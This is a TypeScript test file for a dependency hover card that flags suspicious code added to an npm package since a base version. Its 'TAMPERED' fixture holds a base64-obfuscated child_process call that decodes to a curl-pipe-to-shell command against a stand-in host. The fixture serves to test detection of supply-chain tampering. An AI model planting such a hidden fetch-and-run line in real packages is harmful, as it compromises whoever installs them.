import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { hoverPlainText } from '../../../../server/src/core/show/features/hover/card-text.ts';
import { hover } from '../../../../server/src/core/show/features/hover/hover.ts';
import { hoverTarget } from '../../../../server/src/core/show/features/hover/target.ts';
import { createSession } from '../../../../server/src/engine/create-session.ts';
import type { CachePort, CacheRecord } from '../../../../server/src/engine/ports.ts';
import { DEFAULT_SETTINGS } from '../../../../server/src/engine/settings.ts';
import { ROOT, testPorts } from '../../../workspace.ts';
import { knownOf, NOW, ready } from './hover-harness.ts';

const CLEAN = `exports.get = () => fetch('https://api.example.test');\n`;
const TAMPERED = `${CLEAN}require('child_process').exec(atob('Y3VybCBodHRwOi8vYS5leGFtcGxlLnRlc3QgfCBzaA=='));\n`;

function lockfile(version: string): string {
  const resolved = `https://registry.public.example.test/dayflow/-/dayflow-${version}.tgz`;
  const packages = {
    '': { dependencies: { dayflow: '^3.0.0' } },
    'node_modules/dayflow': { version, resolved, integrity: `sha512-${version}` },
  };
  return JSON.stringify({ lockfileVersion: 3, packages });
}

function filesOf(version: string, code: string): ReadonlyMap<string, string> {
  return new Map([
    ['package.json', '{ "dependencies": { "dayflow": "^3.0.0" } }'],
    ['package-lock.json', lockfile(version)],
    ['node_modules/dayflow/package.json', JSON.stringify({ name: 'dayflow', version })],
    ['node_modules/dayflow/index.js', code],
  ]);
}

function cacheInMemory(): CachePort {
  const records = new Map<string, CacheRecord>();
  return {
    read: async (key) => records.get(key),
    write: async (key, record) => void records.set(key, record),
    confirm: async () => undefined,
  };
}

async function cardOf(files: ReadonlyMap<string, string>, base: string, cache: CachePort): Promise<string> {
  const session = createSession({ ...testPorts(files, { base }), cache });
  session.configure({ ...DEFAULT_SETTINGS, base: 'HEAD' });
  session.setFolders([ROOT]);
  await session.loadFolder(ROOT);
  const snapshot = session.snapshot();
  const uri = `${ROOT}/package.json`;
  const owner = snapshot.projectOf(uri)!;
  const target = hoverTarget(
    owner.project,
    owner.files.get(uri)!,
    snapshot.textOf(uri)!.indexOf('dayflow') + 1,
  )!;
  const code = await session.codeOf(owner.project, target.entry!);
  const context = { ...owner, code, known: knownOf(ready()), findings: [], allChecked: true, now: NOW };
  return hoverPlainText(hover(target, context).card);
}

describe('the card of a dependency', () => {
  test('shows what the code uses, and what is new in it since the base', async () => {
    const cache = cacheInMemory();
    const before = await cardOf(filesOf('3.2.0', CLEAN), lockfile('3.2.0'), cache);
    assert.match(before, /^Code uses +network$/m);
    assert.doesNotMatch(before, /since 3/);
    const after = await cardOf(filesOf('3.2.1', TAMPERED), lockfile('3.2.0'), cache);
    assert.match(after, /^Suspicious code, new since 3\.2\.0\n/);
    assert.match(after, /starts a decoded command \(index\.js:2\)/);
    assert.match(after, /^New code since 3\.2\.0 .* network \(a\.example\.test\) .* and 1 more$/m);
    assert.doesNotMatch(after, /network \(api\.example\.test\)/);
  });

  test('claims nothing of code that is not known', async () => {
    const files = new Map(filesOf('3.2.1', TAMPERED));
    files.delete('node_modules/dayflow/package.json');
    assert.doesNotMatch(await cardOf(files, lockfile('3.2.0'), cacheInMemory()), /Code|since 3/);
  });
});
